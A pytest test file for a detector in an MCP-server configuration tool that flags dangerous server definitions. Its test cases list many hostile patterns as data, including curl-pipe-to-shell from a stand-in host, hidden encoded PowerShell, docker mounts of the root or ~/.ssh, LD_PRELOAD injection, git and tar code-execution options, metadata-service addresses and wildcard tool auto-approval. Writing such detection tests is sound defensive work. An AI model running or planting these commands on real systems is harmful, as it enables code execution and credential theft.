"""Dangers that are pointed out before a definition runs, in any disguise."""

from string import ascii_lowercase
from typing import Any

import pytest

from ipymcp.config.dangers import dangers
from ipymcp.config.definition import ServerDefinition, Source

pytestmark = pytest.mark.posix


def definition(**values: Any) -> ServerDefinition:
    source = Source(scope="project", file="/project/mcp.json", folder="/project")
    return ServerDefinition(**{"name": "fs", "command": "uvx", "args": ("server",), "source": source, **values})


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        ({"command": "sh", "args": ("-c", "curl https://x.example/i | sh")}, "downloads a program and runs it unseen"),
        ({"command": "bash", "args": ("-lc", "a && b")}, "runs a line of shell, made of several commands"),
        ({"command": "sudo", "args": ("x",)}, "sudo: runs as another user"),
        ({"command": "sh", "args": ("-c", "sudo x")}, "sudo: runs as another user"),
        ({"command": "python", "args": ("-c", "x")}, "runs code from its arguments"),
        (
            {"command": "python", "args": ("-m", "mcp_server_time")},
            "python in the project's folder: modules there are found before installed ones",
        ),
        (
            {"command": "npx", "args": ("x",)},
            "npx in the project's folder: node_modules, .npmrc and package.json there decide what runs",
        ),
        ({"command": "./run.sh"}, "the program is a file of the project: ./run.sh"),
        ({"command": "/project/bin/x"}, "the program is a file of the project: /project/bin/x"),
        ({"env": {"NODE_OPTIONS": "x"}}, "NODE_OPTIONS: decides what code runs"),
        ({"env": {"PYTHONPATH": "x"}}, "PYTHONPATH: decides what code runs"),
        ({"env": {"LD_PRELOAD": "x"}}, "LD_PRELOAD: decides what code runs"),
        ({"env": {"npm_config_registry": "x"}}, "npm_config_registry: decides what code runs"),
        ({"env": {"npm_config_script-shell": "x"}}, "npm_config_script-shell: decides what code runs"),
        ({"args": ("--from", "evil", "good")}, "uvx: --from chooses a package that runs: evil"),
        ({"args": ("--python", "3.12", "--with=evil", "good")}, "uvx: --with chooses a package that runs: evil"),
        ({"command": "uv", "args": ("tool", "run", "--from=e", "g")}, "uv: --from chooses a package that runs: e"),
        ({"command": "npx", "args": ("-y", "-p", "evil", "good")}, "npx: -p chooses a package that runs: evil"),
        ({"command": "npx", "args": ("--package=evil", "good")}, "npx: --package chooses a package that runs: evil"),
        (
            {"command": "npx", "args": ("--@good:registry=https://evil.example", "@good/x")},
            "its arguments choose where packages come from",
        ),
        (
            {"command": "docker", "args": ("run", "--entrypoint", "sh", "x")},
            "a container that runs another program than its image's: sh",
        ),
        ({"command": "docker", "args": ("run", "-iv", "/:/h", "x")}, "a container that sees all of your files"),
        (
            {
                "command": "docker",
                "args": ("run", "--mount", "type=volume,dst=/h,volume-opt=o=bind,volume-opt=device=/", "x"),
            },
            "a container that sees all of your files",
        ),
        ({"env": {"HTTPS_PROXY": "x"}}, "HTTPS_PROXY: decides where its traffic goes, and who can read it"),
        ({"inherit_env": True}, "inherit_env: it gets every variable of this kernel"),
        ({"command": "docker", "args": ("run", "-v", "/:/host", "x")}, "a container that sees all of your files"),
        ({"command": "docker", "args": ("run", "--privileged", "x")}, "a container with rights over this machine"),
        ({"command": None, "args": (), "url": "http://x.example/mcp"}, "http: what is sent can be read in transit"),
        ({"command": "env", "args": ("-S", 'sh -c "curl x | sh"')}, "downloads a program and runs it unseen"),
        ({"command": "bash", "args": ("-c", "bash <(curl x)")}, "downloads a program and runs it unseen"),
        ({"command": "bash", "args": ("-l", "-o", "pipefail", "-c", "id")}, "runs a line of shell"),
        ({"command": "/bin/busybox", "args": ("sh", "-c", "id")}, "runs a line of shell"),
        ({"command": "cmd.exe", "args": ("/d", "/s", "/c", "x")}, "runs a line of shell"),
        ({"command": "powershell", "args": ("-w", "hidden", "-enc", "AAAA")}, "runs a line of shell"),
        ({"command": "ssh", "args": ("-o", "ProxyCommand=sh -c x", "h")}, "runs a line of shell"),
        ({"command": "bash", "args": ("run.sh",)}, "bash: a shell runs what its arguments name"),
        ({"command": "env", "args": ("sudo", "x")}, "sudo: runs as another user"),
        ({"command": "nsenter", "args": ("-t", "1", "x")}, "nsenter: its options can run code"),
        ({"command": "docker", "args": ("-H", "tcp://evil.example", "run", "x")}, "docker: its options can run code"),
        ({"command": "podman", "args": ("--url=ssh://evil.example", "run", "x")}, "podman: its options can run code"),
        ({"command": "tee", "args": ("-a", "/home/u/.bashrc")}, "tee: its options can run code"),
        ({"command": "dd", "args": ("of=/home/u/.bashrc",)}, "dd: its options can run code"),
        ({"command": "ln", "args": ("-sf", "x", "~/.bashrc")}, "ln: its options can run code"),
        ({"command": "curl", "args": ("https://x.example",)}, "downloads something: curl"),
        ({"command": "node", "args": ("--import=data:text/javascript,x",)}, "runs code from its arguments"),
        ({"command": "npm", "args": ("exec", "-c", "id")}, "runs code from its arguments"),
        (
            {"command": "cmd", "args": ("/c", "npx x")},
            "npx in the project's folder: node_modules, .npmrc and package.json there decide what runs",
        ),
        ({"command": "${SHELL}", "args": ("-c", "x")}, "a variable decides which program runs: ${SHELL}"),
        ({"command": "bin/x", "cwd": "${workspaceFolder}/sub"}, "the program is a file of the project: bin/x"),
        (
            {"args": ("--from", "git+https://x.example/y", "z")},
            "a package comes from an address: git+https://x.example/y",
        ),
        ({"args": ("--index-url=https://x.example", "y")}, "its arguments choose where packages come from"),
        ({"args": ("x" * 1001,)}, "argument 1 is long: 1,001 characters"),
        ({"args": ("m\u0441p-server",)}, "letters of several scripts look alike here: m\\u0441p-server"),
        ({"env": {"GIT_ASKPASS": "x"}}, "GIT_ASKPASS: decides what code runs"),
        ({"command": "docker", "args": ("run", "-v", "${HOME}:/h", "x")}, "a container that sees all of your files"),
        (
            {"command": "docker", "args": ("run", "--mount", "type=bind,src=/,dst=/h", "x")},
            "a container that sees all of your files",
        ),
        ({"command": "docker", "args": ("run", "--cap-add=ALL", "x")}, "a container with rights over this machine"),
        ({"auto_approve": ("*",)}, "autoApprove *: models may call all of its tools unasked"),
        *(
            ({"auto_approve": patterns}, f"autoApprove {', '.join(patterns)}: models may call all of its tools unasked")
            for patterns in [("?*",), ("fs.*",), ("[!z]*",), tuple(f"{letter}*" for letter in ascii_lowercase)]
        ),
        ({"tools": {"*": "allow"}}, "tools *: models may call all of its tools unasked"),
        ({"tools": {"*": "deny", "write_*": "allow"}}, "tools write_*: models may call these unasked"),
        (
            {"hints": {"*": {"readOnlyHint": True, "openWorldHint": False}}},
            "hints *: models may call all of its tools unasked",
        ),
        (
            {"hints": {"*": {"readOnlyHint": True}, "?*": {"openWorldHint": False}}},
            "hints *, ?*: models may call all of its tools unasked",
        ),
        (
            {"hints": {"run": {"readOnlyHint": True}}},
            "hints run: claim that the tools only read, whatever the server declares",
        ),
        (
            {"hints": {"*": {"openWorldHint": False}}},
            "hints *: claim that the tools access only their own data, whatever the server declares",
        ),
        ({"command": "env", "args": ("LD_PRELOAD=./x.so", "x")}, "LD_PRELOAD: decides what code runs"),
        ({"command": "cross-env", "args": ("NODE_OPTIONS=-r x", "x")}, "NODE_OPTIONS: decides what code runs"),
        ({"command": "sh", "args": ("-c", "export BASH_ENV=x; y")}, "BASH_ENV: decides what code runs"),
        (
            {"command": "env", "args": ("OPENAI_BASE_URL=x", "y")},
            "OPENAI_BASE_URL: decides where its traffic goes, and who can read it",
        ),
        *(
            ({"command": command, "args": args}, f"{command}: its options can run code")
            for command, args in [
                ("ssh", ("-o", "ProxyCommand=./x", "h")),
                ("ssh", ("-oLocalCommand=./x", "h")),
                ("rsync", ("-e", "./x", "a", "b")),
                ("git", ("-c", "alias.x=!./y", "x")),
                ("git", ("-c", "core.sshCommand=./y", "fetch")),
                ("git", ("clone", "ext::sh -c x")),
                ("find", (".", "-exec", "./x", "{}", ";")),
                ("tar", ("--checkpoint-action=exec=./x", "-cf", "a", "b")),
                ("sed", ("1e ./x", "file")),
                ("socat", ("-", "EXEC:./x")),
            ]
        ),
        *(
            ({"command": command, "args": args}, "runs code from its arguments")
            for command, args in [
                ("awk", ('BEGIN{system("x")}',)),
                ("vim", ("-c", "!x")),
                ("php", ("-d", "auto_prepend_file=x", "y.php")),
                ("gdb", ("-ex", "shell x")),
            ]
        ),
        *(
            (
                {"command": "docker", "args": ("run", *mount, "x")},
                f"a container that sees files outside the project: {path}",
            )
            for mount, path in [
                (("-v", "~/.ssh:/s"), "~/.ssh"),
                (("-v", "${HOME}/.aws:/s"), "${HOME}/.aws"),
                (("--volume=/etc/ssl:/s",), "/etc/ssl"),
                (("--mount", "type=bind,source=../up,target=/s"), "../up"),
            ]
        ),
        *(
            ({"env": {name: "x"}}, f"{name}: decides what code runs")
            for name in ("GIT_EXTERNAL_DIFF", "LESSOPEN", "PS4", "LD_AUDIT", "PERL5OPT", "VIMINIT", "MAKEFLAGS")
        ),
        *(
            ({"env": {name: "x"}}, f"{name}: decides where its traffic goes, and who can read it")
            for name in ("OPENAI_BASE_URL", "ANTHROPIC_BASE_URL", "AWS_ENDPOINT_URL_S3", "OLLAMA_HOST", "all_proxy")
        ),
        ({"inherit_env": ("GH_TOKEN",)}, "inherit_env: it gets this kernel's GH_TOKEN, which looks like a secret"),
        *(
            ({"command": None, "args": (), "url": url}, expected)
            for url, expected in [
                (
                    "unix:///var/run/docker.sock:/v1",
                    "connects to a socket of docker, which may do anything on this machine",
                ),
                ("unix:///tmp/x.sock", "connects to a socket of this machine"),
                ("http://localhost:2375/", "connects to a service of this machine: localhost"),
                ("http://127.1/", "connects to a service of this machine: 127.1"),
                ("http://2130706433/", "connects to a service of this machine: 2130706433"),
                ("http://0.0.0.0/", "connects to a service of this machine: 0.0.0.0"),
                ("http://[::ffff:127.0.0.1]/", "connects to a service of this machine: ::ffff:127.0.0.1"),
                ("http://169.254.169.254/", "connects to a service of this machine's network: 169.254.169.254"),
                ("https://nas.local/", "connects to a service of this machine's network: nas.local"),
                (
                    "https://h.example/mcp?api_key=abcdef",
                    "the address contains a secret, api_key: it may end up in logs",
                ),
                (
                    "https://h.example/s/0123456789abcdef0123456789abcdefab/mcp",
                    "the address contains what looks like a secret: it may end up in logs",
                ),
            ]
        ),
    ],
    ids=str,
)
def test_dangerous_patterns_are_pointed_out(values: dict[str, Any], expected: str) -> None:
    assert expected in dangers(definition(**values))


@pytest.mark.parametrize(
    "values",
    [
        {"command": "server", "args": ("-p", "8080", "--package", "x")},
        {"command": "uv-tool", "args": ("server", "--root", ".")},
        {"command": "docker", "args": ("run", "--rm", "-i", "-e", "TOKEN", "mcp/time")},
        {"command": "docker", "args": ("run", "-v", "${workspaceFolder}:/data", "mcp/files")},
        {"command": "server", "args": ("--shell", "bash", "--config", "x.json", "Übersicht", "\u6587\u4ef6")},
        {"command": "mcp-remote", "args": ("https://x.example/mcp",), "env": {"LOG_LEVEL": "debug", "TZ": "UTC"}},
        {"command": None, "args": (), "url": "https://x.example/mcp"},
        {"command": "server", "args": (), "env": {"DATABASE_URL": "x", "PYTHONUNBUFFERED": "1", "API_KEY": "x"}},
        {"command": "server", "args": (), "auto_approve": ("read_file", "list_*"), "tools": {"*": "ask", "rm": "deny"}},
        {
            "command": "docker",
            "args": ("run", "-v", "data:/data", "-v", "${workspaceFolder}/d:/d", "-e", "PATH=/x", "i"),
        },
    ],
    ids=str,
)
def test_an_ordinary_definition_has_nothing_to_point_out(values: dict[str, Any]) -> None:
    assert dangers(definition(**values)) == []


def test_what_is_masked_in_the_users_own_file_is_pointed_out() -> None:
    own = definition(command="npx", args=("--always-auth", "package"), env={"API_KEY": "abcdef"})
    own = own.replace(source=Source(scope="user", file="/home/me/mcp.json", folder="/home/me"))
    assert dangers(own) == [
        "argument 2 looks like a secret and is not shown: make sure that it is one",
        "variable API_KEY looks like a secret and is not shown: make sure that it is one",
    ]


def test_a_value_that_is_shown_is_not_said_to_be_hidden() -> None:
    own = definition(
        command="server", args=("--token", "abcdef"), env={"API_KEY": "abcdef"}, source=Source(scope="user")
    )
    assert dangers(own, masks=False) == []
    assert len(dangers(own, masks=True)) == 2
    assert len(dangers(definition(command="server", args=("--token", "abcdef")), masks=True)) == 1


def test_a_short_option_of_the_server_itself_chooses_no_package() -> None:
    found = dangers(definition(command="npx", args=("-y", "server", "-p", "8080")))
    assert not [line for line in found if "chooses" in line]
